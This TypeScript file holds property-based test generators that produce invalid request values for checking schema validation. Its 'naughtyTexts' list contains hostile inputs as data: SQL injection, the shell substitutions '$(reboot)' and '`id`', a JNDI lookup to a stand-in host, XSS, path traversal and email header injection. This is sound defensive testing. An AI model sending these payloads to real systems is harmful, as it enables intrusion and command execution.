import { exampleOf, limits } from '@counsel/contracts';
import fc, { type Arbitrary } from 'fast-check';
import type { TSchema } from 'typebox';

/** What is read of a field's schema. */
export interface Rule {
  /** Of an array. */
  items?: TSchema;
  examples?: readonly unknown[];
  type?: string;
  enum?: readonly string[];
  anyOf?: readonly { const?: string; type?: string }[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  format?: string;
  default?: unknown;
  trim?: boolean;
}

/** Texts that have broken other programs; right where any text is, wrong wherever a form is asked. */
export const naughtyTexts = [
  "'; drop table questions; --",
  "' or '1'='1",
  '$(reboot)',
  '`id`',
  '{{7*7}}',
  '\u0024{jndi:ldap://evil.test/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  '%00',
  '%s%s%n',
  '\\u0000',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '１２３',
  '٣',
  '1,000',
  '__proto__',
  'constructor',
  'toString',
  'a@b',
  'a b@example.com',
  'a@example..com',
  'a@-example.com',
  'Robin <a@example.com>',
  'a@example.com\r\nBcc: b@example.com',
  '🦄@🦄.example',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  'ﷺ',
  '\u202etxet',
  '\u2066x',
  '\ufeff',
  '\ud83d',
  'a\u0000b',
  'line\u0007feed',
  'x\u009fx',
] as const;

/** None of these may stand in a text that people read. */
const forbidden = fc.constantFrom(
  ...[
    '\u0000',
    '\u0007',
    '\u001b',
    '\u007f',
    '\u0085',
    '\u202a',
    '\u202e',
    '\u2066',
    '\ud800',
    '\udfff',
  ],
);
const notText = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, 0, -1, 2 ** 53, 1e300),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);
const notNumber = fc.oneof(
  fc.constantFrom<unknown>(null, true, '', '7', ...naughtyTexts),
  fc.double({ noNaN: true, noDefaultInfinity: true }).filter((value) => !Number.isInteger(value)),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.integer(), { maxKeys: 2 }),
);
const notBoolean = fc.oneof(
  fc.constantFrom<unknown>(null, 0, 1, 'true', 'yes', ...naughtyTexts),
  fc.array(fc.boolean(), { maxLength: 2 }),
  fc.dictionary(fc.string(), fc.boolean(), { maxKeys: 2 }),
);
const letters = (minLength: number, maxLength: number) =>
  fc.string({ unit: fc.constantFrom('a', 'é', '字', 'Z', '7', ' ', '🦄'), minLength, maxLength });

function wrongText({ minLength = 0, maxLength = 0, trim, pattern, enum: words }: Rule) {
  const isRead = trim && pattern?.startsWith('^[^');
  const isForm = words !== undefined || (pattern !== undefined && !isRead);
  return fc.oneof(
    notText,
    fc.integer({ min: 1, max: 50 }).map((more) => 'x'.repeat((maxLength || 10_000) + more)),
    ...(minLength > 0 && trim
      ? [fc.string({ unit: fc.constantFrom(' ', '\t', '\n'), maxLength: 300 })]
      : []),
    ...(minLength > 1 && trim ? [letters(0, Math.floor(minLength / 2) - 1)] : []),
    ...(isRead
      ? [fc.tuple(letters(60, 90), forbidden, letters(1, 9)).map((parts) => parts.join(''))]
      : []),
    ...(isForm ? [fc.constantFrom(...naughtyTexts), letters(0, 60)] : []),
  );
}

function wrongNumber({ minimum = 0, maximum = limits.id.max }: Rule): Arbitrary<unknown> {
  return fc.oneof(
    notNumber,
    fc.integer({ min: -(2 ** 40), max: minimum - 1 }),
    fc.integer({ min: 1, max: 2 ** 40 }).map((more) => maximum + more),
  );
}

/** Lists that are none, or of which one part breaks a rule. */
function wrongList(item: TSchema): Arbitrary<unknown> {
  const wrongPart = fc
    .constantFrom(...rulesOf(item))
    .chain(([field, rule]) =>
      wrongValue(rule).map((value) => [{ ...(exampleOf(item) as object), [field]: value }]),
    );
  return fc.oneof(fc.constantFrom<unknown>(null, true, 7, '', 'x', {}, [], [null]), wrongPart);
}

/** One word of several, or nothing where that is one of them. */
function notAnyOf(choices: NonNullable<Rule['anyOf']>): Arbitrary<unknown> {
  const isNullable = choices.some(({ type }) => type === 'null');
  return fc
    .oneof(notText, fc.constantFrom(...naughtyTexts), letters(0, 60))
    .filter((value) => !(isNullable && value === null));
}

/** Values of a body that the rule forbids. */
export function wrongValue(rule: Rule): Arbitrary<unknown> {
  if (rule.items) return wrongList(rule.items);
  if (rule.anyOf) return notAnyOf(rule.anyOf);
  if (rule.type === 'integer') return wrongNumber(rule);
  if (rule.type === 'boolean') return notBoolean;
  return wrongText(rule).filter((value) => !fits(rule, value));
}

/** Some forms, such as a name's, are ones that odd texts have too. */
const fits = ({ pattern, trim, maxLength = 0 }: Rule, value: unknown): boolean =>
  pattern !== undefined &&
  !trim &&
  typeof value === 'string' &&
  value.length <= maxLength &&
  new RegExp(pattern, 'u').test(value);

/** What an address holds is text; these are texts that the rule does not take. */
export function wrongInAddress(rule: Rule): Arbitrary<string> {
  const { type, minimum = 0, maximum = limits.id.max, maxLength = 2_000 } = rule;
  const tooLong = fc.constant('x'.repeat(maxLength + 1));
  const texts = fc.constantFrom(...naughtyTexts.map((text) => text.toWellFormed()));
  if (type === 'integer') {
    return fc.oneof(
      texts,
      fc.integer({ min: -(2 ** 40), max: minimum - 1 }).map(String),
      fc.integer({ min: 1, max: 2 ** 40 }).map((more) => String(maximum + more)),
      fc.integer({ min: 0, max: 1_000 }).map((whole) => `${whole}.5`),
    );
  }
  if (rule.trim)
    return fc.oneof(
      tooLong,
      forbidden.map((text) => `x${text.toWellFormed()}\u0000`),
    );
  const isForm = rule.anyOf || rule.pattern || rule.format;
  const misfits = texts.filter((text) => !fits(rule, text));
  return isForm ? fc.oneof(misfits, tooLong) : tooLong;
}

/** The fields of a schema. */
export const rulesOf = (schema: TSchema | undefined): [string, Rule][] =>
  Object.entries((schema as { properties?: Record<string, Rule> } | undefined)?.properties ?? {});
/** Fields that a body can't go without. */
export function requiredIn(schema: TSchema): string[] {
  const { required = [] } = schema as { required?: string[] };
  const filledIn = rulesOf(schema).filter(([, rule]) => rule.default !== undefined);
  return required.filter((field) => !filledIn.some(([name]) => name === field));
}
